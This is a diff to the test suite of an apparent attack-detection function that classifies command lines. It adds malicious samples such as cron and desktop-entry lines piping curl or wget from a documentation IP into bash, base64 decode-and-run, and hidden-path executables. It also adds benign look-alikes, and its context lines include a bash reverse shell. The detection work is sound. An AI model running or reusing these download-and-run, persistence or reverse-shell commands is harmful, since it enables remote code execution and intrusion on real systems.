@@ -19,10 +19,22 @@ describe('signs of attack', () => {
     ['mshta http://192.0.2.1/a.hta', ['script-host', 'remote-script']],
     ['msiexec /q /i http://192.0.2.1/a.msi', ['remote-script']],
     ['pwsh -W 1 -EncodedCommand SQBFAFgAIAAoAE4AZQB3', ['encoded-powershell', 'hidden-powershell']],
-    ['wscript C:\\Users\\Public\\a.vbs', ['script-host', 'temp-place']],
+    ['wscript C:\\Users\\Public\\a.vbs', ['script-host', 'temp-place', 'loose-program']],
     ['C:\\Users\\sato\\AppData\\Local\\Temp\\svchost.exe', ['temp-place']],
-    ['rundll32.exe C:\\ProgramData\\x.dll,Start', ['rundll-odd']],
+    ['rundll32.exe C:\\ProgramData\\x.dll,Start', ['rundll-odd', 'loose-program']],
     ['* * * * * root curl -s http://192.0.2.1/x | bash', ['download-and-run']],
+    ['@reboot root /usr/bin/wget -q http://192.0.2.1/a -O- | /bin/bash', ['download-and-run']],
+    ['Exec=bash -c "bash <(curl -s http://192.0.2.1/a)"', ['download-and-run']],
+    [`Exec=sh -c 'eval "$(wget -qO- http://192.0.2.1/a)"'`, ['download-and-run']],
+    ['Exec=sh -c "curl -s http://192.0.2.1/a -o ~/.a; chmod +x ~/.a; ~/.a"', ['download-and-run']],
+    ['curl -s http://192.0.2.1/a | python3', ['download-and-run']],
+    ['ExecStart=/bin/sh -c "$(echo Y3VybA== | base64 -d)"', ['decode-and-run']],
+    ['Exec=/home/sato/.cache/.x/run', ['hidden-place']],
+    ['ExecStart=%h/.local/share/.d/agent', ['hidden-place']],
+    ['powershell -ep bypass -f "C:\\Users\\佐藤\\AppData\\Roaming\\V\\a.ps1"', ['script-host']],
+    ['"C:\\Users\\佐藤\\AppData\\Roaming\\svhost.exe" /q', ['loose-program']],
+    ['%APPDATA%\\winlog.exe', ['loose-program']],
+    ['C:\\Users\\sato\\Downloads\\見積書\\見積書.exe', ['loose-program']],
     ['echo aGk= | base64 -d | sh', ['decode-and-run']],
     ['bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', ['reverse-shell']],
     ['ExecStart=/tmp/.x/miner', ['temp-place']],
@@ -39,10 +51,27 @@ describe('signs of attack', () => {
     'C:\\Windows\\system32\\userinit.exe,',
     'cmd.exe /c rd /s /q "C:\\Users\\sato\\AppData\\Local\\Temp\\setup"',
     'msiexec.exe /x {8f9c} /qn',
+    '"C:\\Users\\佐藤\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe"',
+    'C:\\Users\\sato\\AppData\\Local\\slack\\slack.exe --process-start-args --startup',
+    'C:\\ProgramData\\Vendor\\update.exe',
+    '"C:\\Program Files\\V\\v.exe" "C:\\Users\\sato\\Documents\\予定.xlsx"',
+    'eval "$(pyenv init -)"; source <(kubectl completion bash)',
+    '0 5 * * * sato /home/sato/backup.sh && curl -fsS https://ping.example/1 > /dev/null',
+    'weather() { curl -s wttr.in/Osaka; }; . "$HOME/.cargo/env"',
+    'Exec=/home/sato/.nvm/versions/node/v24/lib/node_modules/.bin/pm2 resurrect',
   ])('none: %s', (command) => expect(suspiciousSigns(command)).toEqual([]))
   test('padding hides nothing, and a long hostile text ends', () => {
     expect(suspiciousSigns(`curl http://192.0.2.1/x${' '.repeat(50_000)}| sh`)).toEqual(['download-and-run'])
-    for (const piece of ['powershell ', 'curl a ', '/.a', 'nc -', '"\\temp', 'wscript '])
+    for (const piece of [
+      'powershell ',
+      'curl a ',
+      '/.a',
+      '/home/a/.b',
+      'eval $(',
+      'nc -',
+      '"\\temp',
+      'wscript ',
+    ])
       suspiciousSigns(piece.repeat(40_000))
   })
 })
